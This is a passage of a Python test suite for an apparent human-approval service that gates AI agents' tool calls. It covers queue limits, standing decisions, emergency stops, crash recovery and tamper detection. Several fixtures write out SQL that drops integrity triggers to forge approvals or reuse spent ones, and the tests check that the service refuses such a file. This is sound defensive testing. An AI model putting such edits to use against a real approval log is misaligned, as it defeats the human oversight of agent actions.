    request is refused, and one that waits already is met."""
    monkeypatch.setattr(hitl, "MAX_WAITING_PER_AGENT", 2)
    monkeypatch.setattr(hitl, "MAX_WAITING_PER_CREDENTIAL", 3)
    monkeypatch.setattr(hitl, "MAX_WAITING", 4)

    def ask(name):
        told = turn(store, put, store, name, asked_by=f"agent:{name[0]}",
                    agent=name[1])
        return told if isinstance(told, str) else told[1]
    full = "too-many-waiting"
    assert [*map(ask, ("xa1", "xa2", "xa3", "xa1", "xb1", "xb2"))] == [
        True, True, full, False, True, full]
    assert [*map(ask, ("ya1", "yb1", "ya1"))] == [True, full, False]
    act(store, "approve", "xb1")
    assert [*map(ask, ("xa3", "yb1", "xb2"))] == [full, True, full]
    store.reread()
    assert store.waiting_count == 4 and store.counts["agent:x", "a"] == 2


def test_whoever_floods_the_desk_pushes_nobody_off(store):
    """What waits is listed in turns by credential, then by agent, then the
    soonest deadline first; what is attended comes before all."""
    for name, life in (("xa1", ""), ("xa2", 90), ("xa3", 30), ("xb1", 60),
                       ("xb2", ""), ("ya1", 55), ("ya2", 50)):
        turn(store, put, store, name, life, asked_by=f"agent:{name[0]}",
             agent=name[1])
    order = ["xa3", "ya2", "ya1", "xb1", "xa2", "xb2", "xa1"]
    assert names(store) == order
    assert [request.request_id for request in store.waiting(
        3, skip=1, attended={"xa1", "ya1"})] == ["xa1", "xa3", "ya2"]
    # what nobody waits for any more takes no turn from what is attended
    assert [request.request_id for request in store.waiting(
        3, attended={"xb2", "ya1", "ya2"})] == ["ya2", "xb2", "ya1"]


def test_a_large_desk_is_listed_and_searched_at_once(store, monkeypatch):
    """With 10,000 requests waiting the first page takes less than 100 ms,
    and a search among 10,000 reviewed ones says how far back it looked."""
    one = asking(store)
    store.attempt(store.db.executemany, hitl.SUBMIT, [("", *hitl.asked_values(
        one._replace(request_id=f"r-{n}", action_description=f"Löschen {n}")))
        for n in range(10_000)])
    store.commit()

    def quickest(function):
        took = []
        for _ in range(5):
            began = time.process_time()
            function()
            took.append(time.process_time() - began)
        return min(took)
    assert quickest(lambda: store.waiting(100)) < 0.1
    store.attempt(store.db.execute, SET + "status = 'withdrawn', decided_at = "
                  "received_at")
    store.commit()
    assert quickest(lambda: store.reviewed(100, words="nowhere")) < 0.05
    found, position = [], None
    for _ in range(999):
        page = store.reviewed(50, position, "77 LÖSCHEN", "withdrawn")
        assert len(page.rows) <= 50
        found += [request.action_description for request in page.rows]
        position = page.next
        if position is None:
            break
    assert found == [f"Löschen {n}" for n in range(9999, -1, -1)
                     if "77" in str(n)]
    assert store.reviewed(1, words="Löschen", status="approved").rows == []
    monkeypatch.setattr(hitl, "SEARCH_SECONDS", -1)     # however slow it is
    newest, = store.reviewed(1, None, "löschen").rows
    assert store.reviewed(1, None, "löschen").next == (
        newest.decided_at, newest.id)


# ---- decisions that stand, and a stop ----

OTHERS = [{"session": "s-2"}, {"session": None}, {"asked_by": "agent:b"},
          {"checkpoint_id": "other"}, {"checkpoint_digest": "2" * 64},
          {"checkpoint_digest": None}, {"tool": "delete2"},
          {"arguments": '{"table":"userz"}'}, {"action_description": "Delete "}]


@pytest.mark.parametrize("decision", ["approved", "rejected"])
def test_a_standing_decision_answers_the_same_call_alone(store, decision):
    """A call that differs by one byte, another session, agent or checkpoint,
    or one whose table was edited on either side, is for a person."""
    uses = 9 if decision == "approved" else None
    remembered(store, "r-1", decision, uses=uses)
    store.clock.time += 60
    answered = same(store, "r-2")
    assert (answered.status, answered.decided_by, answered.standing) == (
        decision, "reviewer:ana", 1)
    assert hitl.parse_timestamp(answered.said_at) < answered.decided_at
    assert answered.said_at == store.request("r-1").decided_at
    for number, other in enumerate(OTHERS):
        assert same(store, f"o-{number}", **other).status == "waiting", other
    store.desk_digest = lambda request: "3" * 64        # serve's own file
    assert same(store, "r-3").status == "waiting"
    store.desk_digest = lambda request: None
    assert same(store, "r-4").standing == 1
    turn(store, store.lift, 1, "reviewer:ben")
    assert same(store, "r-5").status == "waiting"
    assert chain_faults(store.path) == []
    assert store.db.execute(
        "SELECT event, actor, detail FROM audit_log WHERE subject = 'r-2'"
        ).fetchall() == [("submitted", "agent:a", "{}"),
                         (decision, "reviewer:ana", '{"standing": 1}')]


def test_a_standing_decision_ends_by_time_and_by_use(store):
    """It ends at its time by the server's clock, and after its uses, which
    are counted from the requests that it decided."""
    remembered(store, seconds=60, uses=2)
    assert [same(store, f"u-{n}").status for n in range(3)] == [
        "approved", "approved", "waiting"]
    assert store.standing() == [] and store.stands_until > store.now
    remembered(store, "r-2", "rejected", 60, None)
    store.clock.time += 59.999
    assert same(store, "t-1").standing == 2
    assert [(it.number, used) for it, used in store.standing()] == [(2, 1)]
    store.clock.time += 0.001
    assert same(store, "t-2").status == "waiting" and store.standing() == []


def test_the_order_in_which_a_call_is_answered(store):
    """A stop comes first, then a standing rejection, then a request that is
    open, then a standing approval, then a person."""
    turn(store, put, store, "r-1")
    remembered(store, "r-2")
    assert same(store, "a-1", attach=True).request_id == "r-2"
    act(store, "claim", "r-2")
    assert same(store, "a-2", attach=True).request_id == "r-1"
    assert same(store, "a-3").standing == 1
    act(store, "withdraw", "r-1")
    assert same(store, "a-4", attach=True).request_id == "a-4"
    turn(store, put, store, "e-1", tool="third")        # its arguments may change
    assert same(store, "e-2", attach=True, tool="third", edits=None
                ).request_id == "e-2"
    for name in ("r-3", "r-4"):
        turn(store, put, store, name, tool="other")
    turn(store, store.decide, "r-4", hitl.Status.REJECTED, "reviewer:ana",
         remember=hitl.Bounds(600, None))
    assert same(store, "a-5", attach=True, tool="other").standing == 2
    assert act(store, "stop", "r-3") == "waiting"
    assert same(store, "a-6", attach=True, tool="other") == "stopped"


BOUNDS = [      # seconds, uses; may an approval stand so long, may a rejection?
    (0.5, 1, True, False), (28800, 50, True, False), (28801, 50, False, False),
    (60, 51, False, False), (60, 0, False, False), (60, True, False, False),
    (60, 1.5, False, False), (60, None, False, True), (86400, None, False, True),
    (0, 1, False, False), (0, None, False, False), (True, 1, False, False),
    ("60", 1, False, False), ("60", None, False, False), (1e99, None, False, False)]


def test_how_long_a_decision_may_stand():
    """An approval has both bounds, at most 8 hours and 50 uses; a rejection
    has a time only; anything else is malformed."""
    def bounds(value, decision):
        with contextlib.suppress(hitl.Refusal):
            return hitl.bounds_from(value, decision)
    for seconds, uses, *right in BOUNDS:
        value = {"seconds": seconds, "uses": uses}
        assert [bounds(value, "approved"), bounds(value, "rejected")] == [
            (seconds, uses) if may else None for may in right], value
    assert bounds({"seconds": 60}, "rejected") == (60, None)
    for value in (None, True, [], {}, {"uses": 1}, "60",
                  {"seconds": 1, "uses": 1, "tool": "*"}):
        assert bounds(value, "approved") is bounds(value, "rejected") is None


def test_what_cannot_stand(store):
    """No decision stands for a call without a session, nor for one that was
    changed; then nothing is decided."""
    turn(store, put, store, "r-1", session=None)
    turn(store, put, store, "r-2")
    bounds = hitl.Bounds(600, 9)
    for name, arguments in (("r-1", None), ("r-2", {"table": "pets"})):
        assert turn(store, store.decide, name, hitl.Status.APPROVED, "reviewer"
                    ":ana", remember=bounds, arguments=arguments
                    ) == "not-remembered"
    with pytest.raises(sqlite3.IntegrityError):
        store.attempt(lambda: store.decide(
            "r-2", hitl.Status.APPROVED, "reviewer:ana",
            remember=hitl.Bounds(8 * 3600 + 1, 9)))
    assert {r.status for r in store.waiting(9)} == {"waiting"}
    assert len(names(store)) == 2 and store.standing() == []


SAME = {"tool": "delete", "session": "s-1", "arguments": {"a": 1}}


def test_the_same_id_is_the_same_call_of_the_same_agent(store):
    """A repeated request_id needs an equal digest, checkpoint, session and
    principal; another agent learns nothing of it, and cannot read, claim,
    withdraw or report it."""
    turn(store, put, store)
    assert turn(store, put, store, agent_context='"new"')[1] is False
    for other in OTHERS[:4] + OTHERS[6:]:
        with pytest.raises(hitl.Refusal) as refused:
            put(store, **other)
        assert refused.value.reason == "id-taken"
        assert (refused.value.about is None) == ("asked_by" in other)
    digest = store.request("r-1").digest
    for change in (lambda: store.request("r-1", "agent:b"),
                   lambda: store.withdraw("r-1", "", "agent:b"),
                   lambda: store.claim("r-1", digest, "n", "agent:b"),
                   lambda: store.finish("r-1", "n", hitl.Outcome.FAILED, "",
                                        "agent:b")):
        assert turn(store, change) == "not-your-request"
    assert store.request("r-1", "agent:a", hitl.POLLED).status == "waiting"


def test_a_stop_rejects_what_waits_in_turns(store):
    """After a stop what waits is rejected, 200 a turn, also with many
    waiting; a second stop is the first; lifting keeps what was rejected."""
    for n in range(450):
        store.attempt(put, store, f"r-{n}")
    stop = turn(store, store.stop, "reviewer:ana", "fire")
    assert turn(store, store.stop, "reviewer:ben", "too") == stop
    waited = []
    while store.overdue():
        act(store, "sweep", "r-0")
        waited.append(store.waiting_count)
    assert waited == [250, 50, 0]
    assert {(r.decided_by, r.reason) for r in store.reviewed(999).rows} == {
        ("reviewer:ana", "fire")}
    with pytest.raises(hitl.Refusal, match="ana stopped everything at "
                       f"{stop.made_at}: fire"):
        put(store, "new")
    assert turn(store, store.lift, 1, "reviewer:ben").lifted_by
    assert turn(store, store.lift, 1, "reviewer:eve").lifted_by == (
        "reviewer:ben")
    assert turn(store, store.lift, 7, "reviewer:ben") == "unknown"
    told = '{"decision": "stopped", "reason": "fire"}'
    assert store.db.execute("SELECT event, actor, detail FROM audit_log WHERE "
                            "subject = 'standing:1'").fetchall() == [
        ("stopped", "reviewer:ana", told), ("lifted", "reviewer:ben", told)]
    assert act(store, "ask", "new") == "waiting"
    assert act(store, "approve", "r-0") == "already-decided"
    assert chain_faults(store.path) == []


def test_in_any_order_nothing_runs_that_nobody_agreed_to(store):
    """Calls, decisions that stand, stops, lifts, claims and the clock in any
    order: the log, read alone, has a person and a bound for each call."""
    chance, digest = random.Random(5), asking(store).digest
    for n in range(1500):
        name, old = f"r-{n}", f"r-{chance.randrange(max(0, n - 9), n + 1)}"
        bounds = chance.choice([None, hitl.Bounds(
            chance.choice([5, 60]), chance.randrange(1, 4))])
        turn(store, *chance.choices([
            lambda: put(store, name), lambda: put(store, old),
            lambda: store.submit(asking(store, name), attach=True),
            lambda: store.decide(old, hitl.Status.APPROVED, "reviewer:ana",
                                 remember=bounds),
            lambda: store.decide(old, hitl.Status.REJECTED, "reviewer:ana",
                                 remember=bounds),
            lambda: store.claim(old, digest, name, "agent:a"),
            lambda: store.stop("reviewer:ana", None),
            lambda: store.stop_in_force and store.lift(
                store.stop_in_force.number, "reviewer:ben"),
            lambda: store.lift(chance.randrange(1, 20), "reviewer:ben"),
            lambda: [*map(store.close_overdue, store.overdue())]],
            (40, 5, 5, 20, 5, 20, 1, 20, 4, 9)))
        store.clock.time += chance.choice([0, 0, 1])
    stands, stopped, agreed, seen = {}, set(), set(), hitl.Counter()
    for row in hitl.audit_rows(store.db):
        told, number = json.loads(row.detail), row.subject.partition(":")[2]
        by = str(told.get("standing", ""))
        seen[row.event, bool(by)] += 1
        if row.event in ("submitted", "approved", "claimed"):
            assert not stopped
        if row.event == "stopped":
            stopped.add(number)
        elif row.event == "lifted":
            stopped.discard(number)
            stands.pop(number, None)
        elif row.event == "stands":
            stands[number] = [told["decision"], told["until"],
                              told.get("uses", 9999)]
        elif by and by not in stopped:
            decision, until, left = stands[by]
            assert decision == row.event and until > row.at and left > 0
            stands[by][2] -= 1
        if row.event == "approved":
            assert row.actor == "reviewer:ana"
            agreed.add(row.subject)
        elif row.event == "claimed":
            agreed.remove(row.subject)          # once
    assert min(seen["approved", True], seen["rejected", True],
               seen["claimed", False], seen["lifted", False]) > 5, seen
    assert chain_faults(store.path) == []


def test_what_stands_is_remembered_after_a_failure_and_a_start(every):
    """What is in force is read from the database again after a turn that
    failed, and at the next start, which refuses an edited one."""
    it = hitl.open_store(every, Clock())
    remembered(it, "r-1", seconds=9 * 60)
    until_then = it.standing()[-1][0].until         # the longest
    it.attempt(lambda: it.lift(3, "reviewer:ana"))
    it.attempt(lambda: it.stop("reviewer:ana", None))
    with pytest.raises(ZeroDivisionError):
        it.attempt(lambda: it.lift(4, "reviewer:ana") and 1 / 0)
    assert it.stop_in_force.number == 4
    it.spoilt = True
    assert it.commit() is None and it.stop_in_force is None
    it.close()
    it = hitl.open_store(every, it.clock)
    assert it.stands_until == until_then and same(it, "r-2").standing == 3
    it.close()
    with_sql("UPDATE standing_decisions SET uses = 50 WHERE number = 1",
             "only_lifted")(every)
    with pytest.raises(hitl.ConfigError, match='"standing:1" is not'):
        hitl.open_store(every)


EDITS = [   # what was asked, what the reviewer makes of it, what becomes of it
    ('{"a":"x","n":1,"t":true,"z":null}', {"a": "", "n": 2 ** 60, "t": False,
                                           "z": None}, "approved"),
    ('{"a":["x",{"b":1.5}]}', {"a": ["y", {"b": 2}]}, "approved"),
    ('{"a":1}', {"a": 1.0}, "bad-field"), ('{"a":1}', {"a": True}, "bad-field"),
    ('{"a":1}', {"a": "1"}, "bad-field"), ('{"a":1}', {"b": 1}, "bad-field"),
    ('{"a":1}', {}, "bad-field"), ('{"a":1}', {"a": 1, "b": 2}, "bad-field"),
    ('{"a":1.5}', {"a": 2 ** 53 + 1}, "bad-field"),
    ('{"a":[1]}', {"a": [1, 2]}, "bad-field"),
    ('{"a":null}', {"a": "x"}, "bad-field"),
    ('{"a":"x\\u200b"}', {"a": "y"}, "not-editable"),
    ('{"a":"x\\u200b","b":1}', {"a": "x\u200b", "b": 2}, "approved"),
    ('{"a":"x"}', {"a": "x" * 300_000}, "too-large"),
    (None, {}, "not-editable")]


def test_what_a_reviewer_may_change(store):
    """The same names, and only texts, numbers and booleans, which keep their
    types; a text with unseen characters stays as it is. What was asked stays
    beside what was approved."""
    for number, (asked, arguments, becomes) in enumerate(EDITS):
        name = f"r-{number}"
        turn(store, put, store, name, arguments=asked)
        told = turn(store, store.decide, name, hitl.Status.APPROVED,
                    "reviewer:ana", arguments=arguments)
        request = store.request(name)
        if becomes != "approved":
            assert (told, request.status) == (becomes, "waiting"), asked
            continue
        assert request.arguments == asked and request.intact
        assert json.loads(request.approved_arguments) == arguments
        assert request.approved_digest not in (None, request.digest)
        assert request.approved_digest == hitl.digest_of(
            "Delete", request.approved_arguments, "delete")
    log = store.db.execute("SELECT detail FROM audit_log WHERE subject = 'r-0' "
                           "AND event = 'approved'").fetchone()[0]
    assert json.loads(log)["changed"] == (
        'changed by ana: {a: "x" -> "", n: 1 -> 1152921504606846976, '
        't: true -> false}')
    turn(store, put, store, "plain", edits=None)
    assert act(store, "edit:pets", "plain") == "not-editable"
    assert turn(store, store.decide, "plain", hitl.Status.APPROVED,
                "reviewer:ana", digest="0" * 64) == "arguments-changed"
    assert chain_faults(store.path) == []


# ---- the disk ----

@contextlib.contextmanager
def no_room(path):
    """No file of this process grows beyond the -wal as it is now: SQLite
    meets it where it writes, mostly at COMMIT."""
    resource = pytest.importorskip("resource")
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    wal = path.with_name(path.name + "-wal").stat().st_size
    resource.setrlimit(resource.RLIMIT_FSIZE, (max(wal, 40960), hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


def let_grow(db, more):
    """Let the database grow by so many pages: beyond is SQLITE_FULL."""
    count, = db.execute("PRAGMA page_count").fetchone()
    db.execute(f"PRAGMA max_page_count = {count + more}")


def test_one_that_fails_leaves_its_neighbours(store):
    """Each request runs inside its own savepoint: the COMMIT of a turn
    keeps nothing of one that failed and all of its neighbours. A turn that
    is rolled back unnoticed is not called committed."""
    store.attempt(put, store, "r-1")
    with pytest.raises(ZeroDivisionError):
        store.attempt(lambda: put(store, "r-2") and 1 / 0)
    store.attempt(put, store, "r-3")
    assert [change.subject for change in store.commit()] == ["r-1", "r-3"]
    store.attempt(put, store, "r-4")
    store.db.execute("ROLLBACK")
    assert store.commit() is None
    assert names(store) == ["r-1", "r-3"] and store.waiting_count == 2
    assert chain_faults(store.path) == []


def test_a_poll_is_told_only_what_is_stored(store):
    """A request is kept in memory for polls until it changes, and what was
    kept during a turn that is undone is forgotten with it. Another agent's
    poll is refused, also when it is kept."""
    def told():
        return store.summary("r-1", "agent:a").status
    act(store, "ask")
    assert told() == "waiting" and store.polled
    def approve():
        store.decide("r-1", hitl.Status.APPROVED, "reviewer:ana")
        return told()
    with pytest.raises(ZeroDivisionError):
        store.attempt(lambda: approve() == "approved" and 1 / 0)
    assert told() == "waiting"
    for failing in True, False:
        assert store.attempt(approve) == "approved"
        store.spoilt = failing
        assert (store.commit() is None) == failing
        assert told() == ("waiting" if failing else "approved")
    with pytest.raises(hitl.Refusal) as refusal:
        store.summary("r-1", "agent:b")
    assert refusal.value.reason == "not-your-request"


def test_a_turn_that_fails_stores_nothing(store):
    """When COMMIT fails, or SQLite rolls a whole turn back before it,
    nothing of the turn is stored and nothing begins again in it; the next
    turn with room is as if it had never been."""
    for cache in 2000, 2:           # 2 pages: it writes before COMMIT
        store.db.execute(f"PRAGMA cache_size = {cache}")
        act(store, "ask", f"before-{cache}")
        head, waited, failed = store.head, names(store), []
        with no_room(store.path):
            for n in range(20):
                try:
                    store.attempt(store.submit, asking(
                        store, f"r-{n}", agent_context='"%s"' % ("x" * 50_000)))
                except sqlite3.Error as error:
                    failed.append((n, str(error)))
            assert store.commit() is None
        assert [n for n, _ in failed] == (
            [] if cache > 2 else list(range(failed[0][0], 20)))
        assert {why for _, why in failed[1:]} <= {"this turn was rolled back"}
        assert (store.head, names(store)) == (head, waited)
        assert store.waiting_count == len(waited)
        assert act(store, "ask", f"after-{cache}") == "waiting"
    assert chain_faults(store.path) == []


def test_a_full_disk_is_503_and_loses_nothing(desk):
    """On a full disk every answer of a turn that is not stored is 503, what
    was acknowledged is there, and it goes on when there is room."""
    def flood():
        def post(number):
            return [(name, desk.post(name, agent_context="x" * 9000).status)
                    for name in (f"r-{number}-{n}" for n in range(6))]
        return dict(sum(together(12, post), []))
    desk.post()
    let_grow(desk.store.db, 40)
    codes = flood()
    assert set(codes.values()) == {201, 503}
    stored = {r for r, in desk.rows("SELECT request_id FROM pending_reviews")}
    assert {r for r in codes if codes[r] == 201} == stored - {"r-1"}
    let_grow(desk.store.db, 10_000)
    assert {v for k, v in flood().items() if codes[k] == 503} == {201}
    desk.restart()
    assert len(desk.waiting(73)) == 73 and chain_faults(desk.database) == []


def test_another_program_reads_and_does_not_stop_the_desk(desk):
    """The guide's own check, by another connection: the row is `waiting`. One
    that holds the write lock costs a quick 503; reading goes on, and
    writing when it lets go."""
    desk.post()
    with edited(desk.database) as other:
        assert other.execute("SELECT request_id, status FROM pending_reviews"
                             ).fetchall() == [("r-1", "waiting")]
        other.execute("BEGIN IMMEDIATE")
        began = time.monotonic()
        assert {desk.decide("r-1").status for _ in range(2)} == {503}
        assert time.monotonic() - began < 2
        assert "Delete users where id = 3" in desk.page()
    assert desk.decide("r-1").status == 200


# ---- files that are not opened ----

def with_sql(sql, *triggers):
    """An edit by somebody who puts the triggers back afterwards."""
    def change(path):
        with edited(path) as db:
            again = [db.execute("SELECT sql FROM sqlite_master WHERE name = ?",
                                (name,)).fetchone()[0] for name in triggers]
            for statement in (*(f"DROP TRIGGER {name}" for name in triggers),
                              sql, *again):
                db.executescript(statement)
            db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return change


def shortened(keep):
    return lambda path: os.truncate(path, int(path.stat().st_size * keep))


UNFIT = {
    "zero bytes": (shortened(0), "is empty"),
    "a text": (lambda path: path.write_text("hello\n" * 99),
               "file is not a database"),
    "cut in half": (shortened(0.5), "was cut short|malformed"),
    "cut at its end": (shortened(0.999), "was cut short"),
    "another program's": (with_sql("PRAGMA application_id = 7"),
                          "belongs to another program"),
    "newer": (with_sql("PRAGMA user_version = 9999"), "by a newer hitl.py"),
    "older": (with_sql("PRAGMA user_version = 1"), "by hitl.py 1.0"),
    "a dropped trigger": (with_sql("DROP TRIGGER claimed_once"),
                          "tables or triggers"),
    "a trigger named sqlite...": (with_sql(
        "CREATE TRIGGER sqliteyes AFTER INSERT ON audit_log BEGIN SELECT 1; "
        "END"), "tables or triggers"),
    "an approval nobody made": (with_sql(DECIDE.format(
        "approved", ", decided_by = 'reviewer:a' WHERE status = 'waiting'")),
        "is not as the audit log has it"),
    "another reviewer": (with_sql(
        SET + "decided_by = 'reviewer:eve' WHERE status = 'approved'",
        "decided_once"), "is not as the audit log has it"),
    "a used approval again": (with_sql(
        SET + "outcome = NULL, claim = NULL WHERE outcome = 'executed'",
        "claimed_once"), "is not as the audit log has it"),
    "other words": (with_sql(SET + "action_description = 'Read'",
                             "asked_once"), "is not what was asked"),
    "a longer deadline": (with_sql(SET + "deadline = '2099'", "asked_once"),
                          "is not what was asked"),
    "bytes for a text": (with_sql(SET + "action_description = x'00'",
                                  "asked_once"), "damaged"),
    "a byte of the schema": (lambda path: path.write_bytes(
        path.read_bytes().replace(b"BEGIN SELECT", b"B\xc7GIN SELECT", 1)),
        "damaged"),
    "an edited audit row": (with_sql(
        "UPDATE audit_log SET detail = '{\"by\": 1}' WHERE subject = 'waiting'",
        "audit_is_kept"), "has an audit row that was edited"),
    "a request without a log": (with_sql(INSERT.format("", "", "new", "")),
                                "is not what was asked")}
@pytest.mark.parametrize("name", UNFIT)
def test_an_unfit_file_refuses_to_start(every, used, name):
    """A zero-byte, foreign, newer, cut or edited file refuses to start,
    says why, is left as it is, and can be replaced at once."""
    damage, words = UNFIT[name]
    damage(every)
    before = every.read_bytes()
    with pytest.raises(hitl.ConfigError, match=words) as refused:
        hitl.open_store(every)
    assert refused.value.reason == "bad-database" and refused.value.hint
    assert str(every) in refused.value.message
    assert every.read_bytes() == before != used
    every.write_bytes(used)
    hitl.open_store(every).close()

@pytest.mark.parametrize("spoil", [
    lambda path: path.mkdir(), lambda path: path.symlink_to(path.name),
    lambda path: path.with_name("hitl.db.lock").write_text("x" * 999),
    lambda path: path.with_name("hitl.db-wal").write_bytes(b"x" * 100)])
def test_a_strange_file_in_the_way_is_an_error_message(tmp_path, spoil):
    """A folder or an endless link with the database's name, a lock file that
    is none, a -wal whose database is gone: a ConfigError, never a new
    database."""
    spoil(tmp_path / "hitl.db")
    with pytest.raises(hitl.ConfigError):
        hitl.open_store(tmp_path / "hitl.db")
    assert not (tmp_path / "hitl.db").is_file()

@pytest.mark.parametrize("count", [99, pytest.param(3000, marks=long)])
def test_a_flipped_bit_approves_nothing(used, tmp_path, count):
    """With a bit flipped anywhere the file refuses, or nothing that was
    waiting became approved."""
    path, chance, opened = tmp_path / "hitl.db", random.Random(1), 0
    for _ in range(count):
        data = bytearray(used)
        data[chance.randrange(len(used))] ^= 1 << chance.randrange(8)
        for beside in tmp_path.glob("hitl.db[-.]*"):
            beside.unlink()
        path.write_bytes(data)
        with contextlib.suppress(hitl.ConfigError), contextlib.closing(
                hitl.open_store(path, Clock())) as it:
            opened += 1
            with contextlib.suppress(sqlite3.Error):
                assert "approved" not in [
                    row.status for row in it.select(
                        "WHERE id = 4 OR request_id = 'waiting'")]
    assert 0 < opened < count


def test_one_server_a_database(every):
    """A second server is refused, in this process and then in another; the
    first lives on, and its files are its owner's alone."""
    every.chmod(0o600)                  # the others have its mode
    first = hitl.open_store(every, Clock())
    assert first.db.execute("PRAGMA synchronous").fetchone() == (2,)     # FULL
    with pytest.raises(hitl.ConfigError, match="another server uses"):
        hitl.open_store(every)               # must not drop the first one's lock
    other = command("serve", "--port", "0", "--database", str(every),
                    seconds=20, HITL_REVIEWER_TOKEN=REVIEWER_TOKEN)
    assert other.returncode == 2, other.stderr
    assert f"{every}: another server uses this database" in other.stderr
    assert act(first, "ask") == "waiting"
    modes = {path.name: path.stat().st_mode & 0o777
             for path in every.parent.glob("hitl.db*")}
    assert modes.keys() >= {"hitl.db" + end for end in
                            ("", "-wal", "-shm", ".lock")}
    assert os.name != "posix" or set(modes.values()) == {0o600}
    first.close()
    hitl.open_store(every).close()


def test_one_lock_whatever_name_leads_to_the_database(tmp_path, every):
    """A second server through a symlink to the file, or to its folder, is
    refused as well, also where the database is not there yet."""
    (tmp_path / "real").mkdir()
    (tmp_path / "folder").symlink_to("real", target_is_directory=True)
    (tmp_path / "file.db").symlink_to("real/new.db")
    names = [tmp_path / "real/new.db", tmp_path / "folder/new.db",
             tmp_path / "file.db"]
    for first in names:
        it = hitl.open_store(first)
        assert it.path == names[0] and names[0].is_file()
        for second in names:
            with pytest.raises(hitl.ConfigError, match="another server uses"):
                hitl.open_store(second)
        it.close()


GONE = {"deleted": os.unlink,
        "replaced": lambda path: os.replace(f"{path}.other", path),
        "emptied": lambda path: os.truncate(path, 0),
        "its -wal deleted": lambda path: os.unlink(f"{path}-wal")}
@pytest.mark.skipif(os.name != "posix", reason="an open file is not deleted")
@pytest.mark.parametrize("how", GONE)
def test_a_database_that_is_gone_is_noticed(store, how):
    """A database that is deleted, replaced or emptied under a running server
    is not there any more; one that another process reads and checkpoints is."""
    act(store, "ask")
    assert chain_faults(store.path) == [] and store.still_there()
    Path(f"{store.path}.other").write_bytes(store.path.read_bytes())
    store.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    act(store, "approve")
    assert store.still_there()
    GONE[how](store.path)
    assert not store.still_there()


def test_a_start_is_quick_with_a_large_file(every, monkeypatch):
    """Of a file above 32 MB a start reads the schema and what is open."""
    monkeypatch.setattr(hitl, "CHECKED_PAGES", 0)
    hitl.open_store(every).close()
    with_sql(SET + "deadline = '2099'", "asked_once")(every)
    with pytest.raises(hitl.ConfigError, match="is not what was asked"):
        hitl.open_store(every)


def test_without_wal_no_database_is_opened(tmp_path):
    """Where a file system cannot hold a WAL, the cure is a local disk."""
    with contextlib.closing(sqlite3.connect(":memory:")) as db:
        with pytest.raises(hitl.ConfigError, match="no WAL.*a local disk"):
            hitl.apply_settings(db, tmp_path)


def test_a_database_in_use_is_not_called_damaged(every):
    """A file that another program holds is not blamed on damage."""
    with edited(every) as db:
        db.executescript("PRAGMA locking_mode = EXCLUSIVE; BEGIN IMMEDIATE")
        with pytest.raises(hitl.ConfigError) as refused:
            hitl.open_store(every)
    assert "damaged" not in refused.value.message
    assert "begin again" not in refused.value.hint


def test_what_a_crash_leaves_is_taken_up(store):
    """After a crash at any moment the next start has all that was
    acknowledged: half a new file, a -wal, a checkpoint that did not end."""
    folder, before = store.path.parent, store.path.read_bytes()
    for n in range(20):
        store.attempt(store.submit, asking(
            store, f"r-{n}", agent_context='"%s"' % ("x" * 9000)))
    assert store.commit() is not None
    wal = (folder / "hitl.db-wal").read_bytes()
    store.db.execute("PRAGMA wal_checkpoint(FULL)")
    first_page = store.path.read_bytes()[:4096]
    for number, whole in enumerate([before, first_page + before[4096:]]):
        crashed = folder / str(number)
        crashed.mkdir()
        (crashed / "hitl.db.new").write_bytes(b"half")
        (crashed / "hitl.db").write_bytes(whole)
        (crashed / "hitl.db-wal").write_bytes(wal)
        again = hitl.open_store(crashed / "hitl.db")
        assert names(again) == names(store) and len(names(again)) == 20
        again.close()


# ========================= Promise 6: nothing lost =========================

@pytest.mark.parametrize("kills, seconds", [
    (3, 20), pytest.param(300, 120, marks=long)])
def test_promise_6_nothing_acknowledged_is_lost(tmp_path, make_gate,
                                                kills, seconds):
    """Once the server has answered, nothing is lost: killed with -9 in
    traffic, every request and decision is there, every waiting agent
    gets its decision, no tool ran twice, and a standing approval answered
    no more calls than it has uses."""
    desk, chance = Served(tmp_path), random.Random(3)
    gate = make_gate(desk)
    calls, runs, posts, decisions, redeemed = [], [], [], {}, {}
    over, idle = threading.Event(), threading.Event()

    def sent(client, *words):
        with contextlib.suppress(hitl.UnreachableError):
            return client.exchange(*words, seconds=5)

    def agent(number):
        for n in range(10_000):
            if over.is_set():
                return
            name = f"a-{number}-{n}"
            with contextlib.suppress(hitl.UnreachableError):    # refused
                gate.call("delete_records", CALL, request_id=name,
                          execute=lambda n=name, **_: runs.append(n))
                calls.append(name)

    def redeem():
        while not over.wait(0.02):      # the same id until it is answered
            name = f"s-{len(redeemed)}"
            reply = sent(desk.agent(), "POST", "/pending", four(name) | SAME)
            if reply:
                redeemed[name] = reply.body["status"]

    def review():
        while not idle.wait(0.01):
            name = f"p-{chance.random()}"
            reply = sent(desk.agent(), "POST", "/pending", four(name))
            if reply and reply.status == 201:
                posts.append(name)
            reply = sent(desk.reviewer(), "GET", "/pending")
            for there in reply.body["waiting"] if reply else ():
                name = there["request_id"]
                word = "approved" if name[0] == "a" else "rejected"
                reply = sent(desk.reviewer(), "POST", f"/approve/{name}",
                             {"decision": word})
                if reply and reply.status == 200:
                    decisions[name] = word
    sent(desk.agent(), "POST", "/pending", four() | SAME)
    sent(desk.reviewer(), "POST", "/approve/r-1", {
        "decision": "approved", "remember": {"seconds": 600, "uses": 30}})
    reviewer = in_background(review)
    agents = [in_background(redeem), *(in_background(agent, n) for n in range(3))]
    try:
        end = time.monotonic() + seconds    # however slow the machine is
        while kills and time.monotonic() < end:
            ran = len(runs)
            assert until(lambda ran=ran: posts and len(runs) > ran)
            time.sleep(0.1 * chance.random())
            desk.stop(signal.SIGKILL)
            desk.start()
            kills -= 1
        over.set()
        for result in agents:
            result()
        print(f"{kills} kills were left when the time was over")
    finally:
        over.set()
        idle.set()
        reviewer()
        desk.stop()
    with edited(tmp_path / "hitl.db") as db:
        rows = dict(db.execute(
            "SELECT request_id, status FROM pending_reviews"))
        used = {name for name, in db.execute(
            "SELECT request_id FROM pending_reviews WHERE standing = 1")}
        assert list(hitl.audit_faults(db)) == []
    assert sorted(runs) == sorted(calls) and posts and decisions
    assert set(posts) <= set(rows)
    assert decisions.items() <= rows.items()
    approved = {name for name in redeemed if redeemed[name] == "approved"}
    assert approved and approved <= used and len(used) <= 30


# ====================== Promise 8: tampering is shown ======================

def verifies(db, noted=""):
    """What log --verify would say."""
    try:
